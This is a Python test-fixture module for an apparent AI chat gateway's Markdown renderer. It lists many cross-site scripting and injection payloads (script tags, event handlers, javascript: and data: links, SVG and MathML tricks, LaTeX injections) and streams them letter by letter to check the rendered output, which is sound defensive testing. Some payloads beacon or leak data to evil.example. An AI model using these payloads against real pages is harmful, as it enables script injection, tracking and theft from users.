"""Text that would act if a page let it: kinds of attacks, and more of them by what they are put into."""

from collections.abc import Iterator
from itertools import product

from ai_pal.gateway.page.following import Cursor
from ai_pal.gateway.page.markdown import block_parser
from ai_pal.gateway.page.shown import Shown
from ai_pal.protocol import client as wire

_ACTS = "alert(1)"

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel>",
    '<img src="x" style="x:expression(alert(1))">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><use href=data:,x#x>",
    "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>",
    "<math><mtext><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" href="javascript:x">x',
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q><button>x",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=x>",
    "<button formaction=javascript:alert(1)>x",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x",
    "<body onload=alert(1)>",
    "<select autofocus>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x",
    "<a href='jav&#x09;ascript:alert(1)'>x",
    "<a href=data:text/html,<script>alert(1)</script>>x",
    "<a ping=//evil.example href=//evil.example>x</a>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>x",
    "<p id=app>x",
    "<p name=getElementById>x",
    "<img name=cookie><form id=x><input id=attributes>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><svg onload=x>'>",
    "<title><a title='</title><img src onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<x>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><x onload=alert(1)/>",
    "<plaintext>",
    "</div></section></main><script>alert(1)</script>",
    "</code></pre><img src=x onerror=alert(1)>",
    "<x/onclick=alert(1)>",
    "<table background=//evil.example><td background=//evil.example>x",
    "<frameset onload=alert(1)>",
    "<dialog open>x",
    "<link rel=dns-prefetch href=//evil.example>",
    "<portal src=//evil.example>",
    "<keygen autofocus onfocus=alert(1)>",
    "<div contenteditable onbeforeinput=alert(1)>x",
    "<p popover id=x>x<button popovertarget=x>",
    "<img srcset='//evil.example 1x'>",
)

LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:null/x)",
    "[x](view-source:x)",
    "[x](about:blank)",
    "[x](intent://x#Intent;end)",
    "[x](//evil.example)",
    "[x](/page/sign-out)",
    "[x](?a=b)",
    "[x](#/models)",
    "[x](page/change)",
    "[x](\\\\evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: data:text/html,x",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](//evil.example/pixel)",
    "![x](https://evil.example/pixel?secret)",
    "![x](data:image/png;base64,x)",
    '![x](https://evil.example "onerror=alert(1)")',
    '[x](https://e.example "" onmouseover=alert(1) x="")',
    '[x](https://e.example/"onmouseover=alert(1))',
    "[<img src=x onerror=alert(1)>](https://e.example)",
    "[![x](https://evil.example/a)](javascript:alert(1))",
    "[x](https://good.example@evil.example/)",
    "<https://e.example/<script>>",
    "[https://bank.example](https://evil.example)",
    "[x](https://e.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;)",
    "[x](mailto:a@b?subject=<script>)",
    "[x](http://[::1]:99999999/)",
    "[x](https://evil.example\u202ecod.exe)",
)

CODE = (
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "~~~' onload=alert(1)\nx\n~~~",
    "```py class=x id=app style=a\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "``` \x00<x>\nx",
    "```js\n</code></pre><script>alert(1)</script>\n```",
    "```diff\n+<b onclick=x>\n-</pre>\n```",
    "```\n\x1b[31mred\x1b[0m\n```",
)

FORMULAS = (
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$<img src=x onerror=alert(1)>$",
    "$\\style{background:url(//evil.example)}{x}$",
    "$\\class{app}{x}$",
    "$\\cssId{app}{x}$",
    "$\\unicode{<script>}$",
    "$$\\color{red;background:url(//evil.example)}{x}$$",
    "$\\mathchoice$",
    "\\(\\url{javascript:alert(1)}\\)",
    "\\[</math><img src=x>\\]",
    "$\\includegraphics{//evil.example/x}$",
    "$\\require{html}\\data{x=y}{z}$",
    "$\\begin{array}{<b>}x\\end{array}$",
    '$\\char"3C script$',
)

OTHERS = (
    "|<script>|x|\n|:-|-:|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "a\u2028<script>alert(1)</script>",
    "\ufeff<script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<tpircs>",
    "<\u200bscript>",
)

KINDS = (*MARKUP, *LINKS, *CODE, *FORMULAS, *OTHERS)

_AROUND = (
    "> {}",
    "- {}\n- x",
    "1. a\n\n   {}",
    "# {}",
    "**{}**",
    "|a|\n|-|\n|{}|",
    "text {} text",
    "$$\n{}\n$$",
    "{}\n\n{}",
    "[{}](https://e.example)",
)


def combined(most: int) -> list[str]:
    """Kinds within other Markdown, evenly taken from all that there would be."""
    everything = [around.replace("{}", kind) for around, kind in product(_AROUND, KINDS)]
    step = max(1, len(everything) // most)
    return everything[::step][:most]


def written_out(text: str) -> Iterator[str]:
    """What a page shows of it, letter by letter: the source of a block each time that it is another."""
    answer, cursor, known = Shown(block_parser()), Cursor(), ""
    for seq, letter in enumerate(text):
        answer.take(wire.Delta(1, seq, 1, letter), 0.0)
        for kind, *said in cursor.news(answer):
            if kind in ("block", "open") and said[1] != known:
                known = said[1]
                yield known
